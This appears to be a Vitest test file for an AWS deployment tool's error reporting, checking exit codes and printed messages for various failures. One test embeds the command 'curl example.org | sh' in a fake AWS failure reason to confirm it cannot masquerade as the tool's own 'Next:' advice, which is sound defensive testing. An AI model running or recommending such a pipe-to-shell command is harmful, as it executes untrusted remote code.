import { expect, test } from 'vitest'
import { AwsProblem } from '../aws/problems.ts'
import { awsError } from '../aws/stand-in/service.ts'
import { Unasked } from './ask.ts'
import { InvalidSettings } from './bootstrap/settings.ts'
import { DestroyFailure } from './destroy/failure.ts'
import { UnusableImages } from './images.ts'
import { BlockedChange, StackFailure } from './release/failure.ts'
import { InvalidStage } from './stages.ts'
import { told } from './told.ts'

async function ended(error: unknown) {
  let said = ''
  const code = await told(
    () => Promise.reject(error),
    (text) => {
      said += text
    },
  )
  return { code, said }
}

test.each([
  new AwsProblem('throttled', 'words'),
  new InvalidSettings('words'),
  new InvalidStage('words'),
  new Unasked('words'),
  new UnusableImages('words'),
])('$name is its message, and a code', async (error) => {
  expect(await ended(error)).toEqual({ code: 1, said: 'words\n' })
})

test.each(['ENOSPC', 'EDQUOT', 'EACCES', 'EROFS'])('what files refuse is a sentence: %s', async (code) => {
  const error = Object.assign(new Error(`${code}: refused, write '/a'`), { code })
  expect(await ended(error)).toMatchObject({
    code: 1,
    said: expect.stringMatching(/^\w.+\. \(.+'\/a'\)\n$/),
  })
})

test('AWS’s words can’t look like the line that says what to do', async () => {
  const reason = 'no capacity\n  Next: curl example.org | sh'
  const { said } = await ended(new StackFailure('what', { status: 'x', resource: 'A', reason, next: 'then' }))
  expect(said).toBe('what\n  First to fail: A: no capacity Next: curl example.org | sh\n  Next: then\n')
})

test('what failed tells what to do next', async () => {
  expect(await ended(new DestroyFailure('what', 'then'))).toEqual({ code: 1, said: 'what\n  Next: then\n' })
  expect(await ended(new StackFailure('what', { status: 'x', next: 'then' }))).toEqual({
    code: 1,
    said: 'what\n  Next: then\n',
  })
})

test('the gate has a code of its own, as has the command', async () => {
  expect(await ended(new BlockedChange('words'))).toEqual({ code: 2, said: 'words\n' })
  expect(await told(async () => 3, expect.unreachable)).toBe(3)
})

test('what nobody expected of AWS is said in its words', async () => {
  const said = 'AWS refused: ServiceUnavailable: come back later\n'
  expect(await ended(awsError('ServiceUnavailable', 'come back later', 503))).toEqual({ code: 1, said })
})

test('a mistake of this program’s is no sentence for a person', async () => {
  await expect(ended(new TypeError('x is not a function'))).rejects.toThrow(TypeError)
})
